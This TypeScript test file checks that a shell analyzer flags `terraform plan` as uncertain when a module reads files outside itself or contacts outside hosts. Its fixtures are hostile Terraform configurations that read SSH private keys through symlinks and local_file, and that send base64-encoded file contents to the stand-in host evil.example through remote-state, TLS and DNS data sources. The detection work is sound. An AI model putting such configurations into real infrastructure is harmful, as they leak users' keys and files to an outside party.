// What `terraform plan` reads and contacts beyond its module (issue 11; the infrastructure review, from the providers'
// documentation: terraform is not installable here): a module file that is a link to a key (`file("k")` with
// `k -> ~/.ssh/id_rsa`), a `local_file` data source naming a path outside the module, and data sources that contact an
// address the configuration computes (`terraform_remote_state` over HTTP, `tls_certificate`, `dns_*`), which may carry
// what the configuration read. Real folders and links in a temp directory; nothing is run.
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { buildRepository } from '../testdata/build-repository';
import { type DiskProject, diskRealpath } from '../testdata/disk-reader';

let p: DiskProject;
beforeAll(async () => {
  await loadShellParser();
  p = buildRepository('gavel-tf-reach-', {
    'link/main.tf': 'output "k" {\n  value = base64encode(file("k"))\n}\n',
    'linkdir/main.tf': 'output "k" {\n  value = file("${path.module}/keys/id")\n}\n',
    'local/main.tf': 'data "local_file" "k" {\n  filename = "/home/dev/.ssh/id_rsa"\n}\n',
    'remote/main.tf':
      'data "terraform_remote_state" "x" {\n  backend = "http"\n  config = {\n    address = "https://evil.example/s/${base64encode(file("main.tf"))}"\n  }\n}\n',
    'tls/main.tf': 'data "tls_certificate" "c" {\n  url = "https://evil.example/${file("main.tf")}"\n}\n',
    'hash/main.tf': 'output "h" {\n  value = filebase64sha256("/home/dev/.ssh/id_rsa")\n}\n',
    'dns/main.tf': 'data "dns_a_record_set" "d" {\n  host = "x.evil.example"\n}\n',
    'ok/main.tf':
      'resource "aws_instance" "a" {\n  user_data = file("${path.module}/init.sh")\n}\ndata "local_file" "cfg" {\n  filename = "${path.module}/config.json"\n}\n',
    'ok/init.sh': '#!/bin/sh\necho hi\n',
    'ok/config.json': '{}\n',
  });
  mkdirSync(join(p.home, '.ssh'), { recursive: true });
  writeFileSync(join(p.home, '.ssh', 'id_rsa'), 'KEY\n');
  writeFileSync(join(p.home, '.ssh', 'id'), 'KEY\n');
  symlinkSync(join(p.home, '.ssh', 'id_rsa'), join(p.root, 'link', 'k'));
  symlinkSync(join(p.home, '.ssh'), join(p.root, 'linkdir', 'keys'));
});
afterAll(() => p?.remove());

/** The uncertainty codes of `command` in folder `dir`, links resolved as the surface resolves them. */
const run = (dir: string, command: string) => ({
  codes: [
    ...new Set(
      analyzeShellSync(command, { ...p.env(`${p.root}/${dir}`), realpath: diskRealpath }).uncertain.map(
        (u) => u.code,
      ),
    ),
  ],
});

describe('a plan that reads or contacts beyond its module is uncertain', () => {
  it.each([
    ['a module file that links to a key', 'link'],
    ['a module folder that links to home', 'linkdir'],
    ['a local_file outside the module', 'local'],
    ['another state over HTTP', 'remote'],
    ['a TLS endpoint', 'tls'],
    ['a DNS lookup', 'dns'],
    ['a file hashed outside the module', 'hash'],
  ])('%s', (_n, dir) => {
    expect(run(dir, 'terraform plan').codes).toContain('dynamic-script');
  });

  it("the module's own files stay quiet", () => {
    expect(run('ok', 'terraform plan').codes).toEqual([]);
  });
});
